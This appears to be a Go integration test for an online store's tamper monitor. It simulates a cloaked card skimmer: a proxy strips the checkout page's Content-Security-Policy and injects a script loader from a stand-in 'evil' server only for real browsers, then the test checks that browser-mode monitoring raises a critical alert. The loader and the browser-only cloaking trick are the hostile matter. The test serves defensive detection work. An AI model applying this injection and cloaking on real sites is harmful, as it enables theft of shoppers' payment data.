package main

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"kaede/internal/monitor"
	"kaede/internal/secevent"
)

// TestBrowserMonitorCatchesCodeOnlyBrowsersRun is a proxy in front of the
// store that skims only real browsers, as skimmers do to hide from
// scanners: to a navigation that carries a browser's
// Upgrade-Insecure-Requests header it serves the checkout page without its
// CSP and with a few bytes of inline code that insert the skimmer with
// document.createElement. A walk over HTTP, however browser-like its
// headers, sees the page as it always was; the store's monitor in browser
// mode sees the code that ran and the request to the skimmer's origin and
// raises a critical alert that reaches the webhook.
func TestBrowserMonitorCatchesCodeOnlyBrowsersRun(t *testing.T) {
	eachDatabase(t, func(t *testing.T, cfg Config) {
		chromium := chromiumPath(t)
		var skimmerServed atomic.Int64
		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/s.js" {
				skimmerServed.Add(1)
				w.Header().Set("Content-Type", "text/javascript")
				w.Write([]byte(`window.__skimmer = true;`))
				return
			}
			w.WriteHeader(http.StatusNoContent)
		}))
		t.Cleanup(evil.Close)
		proxy := newTamperProxy(t)
		hook := newAlertReceiver(t)
		cfg.AlertWebhookURL, cfg.AlertWebhookSecret = hook.srv.URL, hook.secret
		cfg.Monitor.Mode, cfg.Monitor.Browser = monitorBrowser, chromium
		// A browser walk takes seconds: a run every three is often enough.
		m := startMonitoredWith(t, cfg, proxy, monitorOptions{every: 3 * time.Second}, nil)
		events := secevent.NewStore(m.db, nil)
		ctx := context.Background()

		started := time.Now()
		waitUntil(t, 120*time.Second, func() bool {
			var n int
			_ = m.db.QueryRow(`SELECT COUNT(*) FROM monitor_baselines WHERE state = 'approved' AND mode = 'browser'`).Scan(&n)
			return n == 1
		})
		t.Logf("browser baseline taken %.1fs after the store started", time.Since(started).Seconds())
		var mode, result string
		if err := m.db.QueryRow(`SELECT mode, result FROM monitor_runs ORDER BY id DESC LIMIT 1`).Scan(&mode, &result); err != nil || mode != "browser" || result != "ok" {
			t.Fatalf("last run: %s %s %v, want an ok browser run", mode, result, err)
		}

		// The same pages walked over HTTP alone, for comparison.
		tr := http.DefaultTransport.(*http.Transport).Clone()
		t.Cleanup(tr.CloseIdleConnections)
		httpWalker, err := monitor.NewWalker(monitor.Config{BaseURL: proxy.srv.URL, ProviderOrigins: []string{originOf(m.Config.Card.GatewayURL)},
			Transport: offlineTransport{tr}})
		if err != nil {
			t.Fatal(err)
		}
		httpBase, err := httpWalker.Walk(ctx)
		if err != nil {
			t.Fatalf("HTTP walk: %v", err)
		}

		loader := `<script>var s = document.createElement('script'); s.src = '` + evil.URL + `/s.js'; document.head.appendChild(s);</script>`
		skim := editBody(func(r *http.Request) bool {
			return r.Method == http.MethodGet && r.URL.Path == "/checkout" && r.Header.Get("Upgrade-Insecure-Requests") == "1"
		}, func(b []byte) []byte { return bytes.Replace(b, []byte("</head>"), []byte(loader+"</head>"), 1) })
		changed := time.Now()
		proxy.set(func(res *http.Response) error {
			if res.Request.URL.Path == "/checkout" && res.Request.Header.Get("Upgrade-Insecure-Requests") == "1" {
				res.Header.Del("Content-Security-Policy")
			}
			return skim(res)
		})

		if _, diffs, err := httpWalker.Check(ctx, httpBase); err != nil || len(diffs) != 0 {
			t.Fatalf("HTTP walk of the cloaked skimmer: %v, %v; want nothing seen", diffs, err)
		}
		var got secevent.Event
		waitUntil(t, 90*time.Second, func() bool {
			list, err := events.List(ctx, secevent.Filter{Kind: secevent.KindTamper, Severity: secevent.Critical})
			if err != nil {
				t.Fatalf("list events: %v", err)
			}
			if len(list) > 0 {
				got = list[0]
				return true
			}
			return false
		})
		t.Logf("cloaked skimmer: critical tamper event %d %.1fs after the change: %s", got.ID, time.Since(changed).Seconds(), got.Summary)
		for _, want := range []string{"script-executed", evil.URL + "/s.js", "request-origin", "script ran: inline"} {
			if !strings.Contains(got.Detail, want) {
				t.Errorf("event detail %s, want %q in it", got.Detail, want)
			}
		}
		if skimmerServed.Load() == 0 {
			t.Error("the skimmer was never fetched: the browser did not run the inserted code")
		}
		waitUntil(t, 60*time.Second, func() bool { return hook.has(got.ID) })
		t.Logf("cloaked skimmer: signed alert at the webhook %.1fs after the change", time.Since(changed).Seconds())

		// "kaede monitor check", left to auto, walks as the store's monitor
		// does: in the browser, and so sees the skimmer too.
		var out, errOut bytes.Buffer
		err = runMonitor(t.Context(), []string{"check", "--database", m.Config.DatabaseURL, "--base-url", proxy.srv.URL,
			"--gateway-url", m.Config.Card.GatewayURL}, &out, &errOut)
		if err != errDifferent || !strings.Contains(out.String(), "(browser mode): different") || !strings.Contains(out.String(), evil.URL+"/s.js") {
			t.Errorf("kaede monitor check of the cloaked skimmer: %v\n%s%s\nwant a browser-mode run naming the skimmer", err, out.String(), errOut.String())
		}

		// Undone, the browser walk sees the baseline again.
		proxy.set(nil)
		undone, _ := lastRun(t, m.db.DB)
		waitUntil(t, 90*time.Second, func() bool {
			id, result := lastRun(t, m.db.DB)
			return id > undone+1 && result == "ok"
		})
	})
}
